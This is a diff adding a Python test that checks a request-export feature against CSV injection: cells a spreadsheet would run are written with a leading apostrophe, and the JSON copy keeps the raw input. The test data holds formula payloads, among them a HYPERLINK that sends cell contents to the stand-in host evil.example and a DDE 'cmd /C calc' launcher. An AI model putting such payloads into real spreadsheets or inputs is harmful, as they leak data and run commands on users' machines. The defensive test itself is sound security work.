@@ -276,3 +276,26 @@ def test_decision_date_fields_survive_in_snapshot(desk, tmp_path):
     assert case.status == Status.pended and case.history == []
     assert date(2025, 3, 4) == exports.batch(result.batch_id).batch.created_at.date()
     assert isinstance(exports.clock, Clock)
+
+
+HOSTILE = {  # what a requester might type, and what a spreadsheet would run (OWASP: CSV injection)
+    "procedure": '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
+    "requester": {"type": "authorized_representative", "name": "@SUM(1+1)*cmd|' /C calc'!A0"},
+    "member": {"member_id": "TST000009", "last_name": "-2+3", "first_name": "+Rosa"},
+}
+
+
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_the_json_keeps_what_was_typed(db_target, tmp_path):
+    cases, exports = exporting_desk(db_target)
+    case = cases.submit(make_request(**HOSTILE)).case
+    result = exports.export(PLAN, tmp_path, ids=[case.id])
+    rows = list(csv.DictReader(io.StringIO((result.path / "submissions.csv").read_text(encoding="utf-8"),
+                                           newline="")))
+    row = rows[0]
+    assert row["procedure"] == "'" + HOSTILE["procedure"]
+    assert row["requester_name"] == "'" + HOSTILE["requester"]["name"]
+    assert (row["member_last_name"], row["member_first_name"]) == ("'-2+3", "'+Rosa")
+    assert row["request_id"] == str(case.id) and row["member_date_of_birth"][0].isdigit()  # plain values as they were
+    document = json.loads((result.path / "requests" / f"{case.id}.json").read_text(encoding="utf-8"))
+    assert document["request"]["procedure"] == HOSTILE["procedure"]
+    assert document["request"]["member"]["last_name"] == "-2+3"
